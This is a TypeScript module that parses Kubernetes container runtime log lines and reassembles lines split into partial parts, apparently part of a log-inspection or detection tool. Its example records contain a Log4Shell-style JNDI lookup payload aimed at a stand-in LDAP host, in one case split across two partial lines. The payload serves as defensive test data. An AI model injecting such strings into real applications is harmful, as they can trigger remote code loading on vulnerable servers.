import { readTime } from '../time/read-time.ts'
import type { LogFormat } from './format.ts'
import { joinedParts, type Part } from './parts.ts'

/**
 * What the runtimes of Kubernetes keep of a container's output: `time stream tags text`. The first tag says whether the line
 * is whole (`F`, or the last of its parts) or goes on (`P`).
 */
export const kubernetes: LogFormat = {
  id: 'kubernetes',
  summary: 'containerd and CRI-O: what a container wrote, parts of long lines put together, and read as what it is',
  definedBy: 'https://github.com/kubernetes/design-proposals-archive/blob/main/node/kubelet-cri-logging.md',
  examples: {
    reads: [
      {
        record: '2021-12-12T04:25:41.669794202Z stdout F hello ${jndi:ldap://x.example/a}',
        when: '2021-12-12T04:25:41.669Z',
      },
      {
        record:
          '2021-12-12T05:25:41.669794202+01:00 stderr P hello ${jndi:ld\n2021-12-12T05:25:41.669794202+01:00 stderr F ap://x.example/a}',
        when: '2021-12-12T04:25:41.669Z',
      },
    ],
    refuses: ['2021-12-12T04:25:41.669794202Z stdout hello', 'stdout F hello', '2021-12-12T04:25:41Z other F hello'],
  },
  read({ text }, { around }) {
    const parts = text.split('\n').map(partOf)
    const [first] = parts
    if (first === undefined || first === null) return null
    const own = parts.filter((part) => part?.stream === first.stream)
    return {
      when: readTime(first.time, around),
      from: null,
      request: null,
      userAgent: null,
      isPart: own.at(-1)?.goesOn === true,
      fields: [{ name: null, value: own.map((part) => part?.text ?? '').join(''), holdsRecord: true }],
    }
  },
  spans: {
    mayHold: (line) => head.test(line),
    around: (piece, place) => joinedParts(piece, place, partOf),
  },
}

const head = /^(\d{4}-\d\d-\d\dT[\d:.]{8,20}(?:Z|[+-]\d\d:\d\d)) (stdout|stderr) ([FP])(?::\S{1,60})? /

function partOf(line: string): Part | null {
  const match = head.exec(line)
  if (match === null) return null
  const [whole, time = '', stream = '', tag] = match
  return { text: line.slice(whole.length), stream, time, goesOn: tag === 'P' }
}
